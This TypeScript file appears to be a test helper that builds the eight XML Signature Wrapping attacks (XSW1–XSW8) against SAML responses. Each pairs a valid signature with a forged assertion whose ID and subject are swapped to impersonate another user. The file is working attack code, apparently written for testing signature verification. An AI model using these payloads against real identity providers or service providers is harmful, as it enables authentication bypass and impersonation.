import { type Said, type SamlProvider, signXml } from './saml-provider.js';

const signatureOf = (xml: string): string => /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(xml)?.[0] ?? '';
const unsigned = (xml: string): string => xml.replace(signatureOf(xml), '');
const within = (signature: string, inner: string, tag = 'ds:Object') =>
  signature.replace('</ds:Signature>', `<${tag}>${inner}</${tag}></ds:Signature>`);
const renamed = (xml: string): string => xml.replace(/ ID="[^"]*"/, ' ID="_evil"').replace('urn:uuid:anna', 'urn:uuid:formanden');
const signedBy = (xml: string, signature: string): string => xml.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);

/**
 * The eight kinds of signature wrapping (Somorovsky et al., 2012): a valid signature of one thing, and beside it what the attacker wants read.
 * Each as the XML of a response.
 */
export function signatureWrappings(provider: SamlProvider, said: Said): Record<string, string> {
  const signed = provider.assertion(said);
  const original = unsigned(signed);
  const evil = renamed(original);
  const signature = signatureOf(signed);
  const response = signXml(provider.responseXml(original), 'Response', provider.signing);
  const outerSignature = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(response)?.[0] ?? '';
  const bareResponse = response.replace(outerSignature, '');
  const evilResponse = renamed(bareResponse);
  const evilSigned = signedBy(evil, signature);
  return {
    XSW1: signedBy(evilResponse, outerSignature.replace('</ds:Signature>', `${bareResponse}</ds:Signature>`)),
    XSW2: signedBy(evilResponse, `${bareResponse}${outerSignature}`),
    XSW3: provider.responseXml(evil, signed),
    XSW4: provider.responseXml(evil.replace('</saml:Assertion>', `${signed}</saml:Assertion>`)),
    XSW5: provider.responseXml(evilSigned, original),
    XSW6: provider.responseXml(signedBy(evil, signature.replace('</ds:Signature>', `${original}</ds:Signature>`))),
    XSW7: provider.responseXml(`<samlp:Extensions>${original}</samlp:Extensions>`, evilSigned),
    XSW8: provider.responseXml(signedBy(evil, within(signature, original))),
  };
}
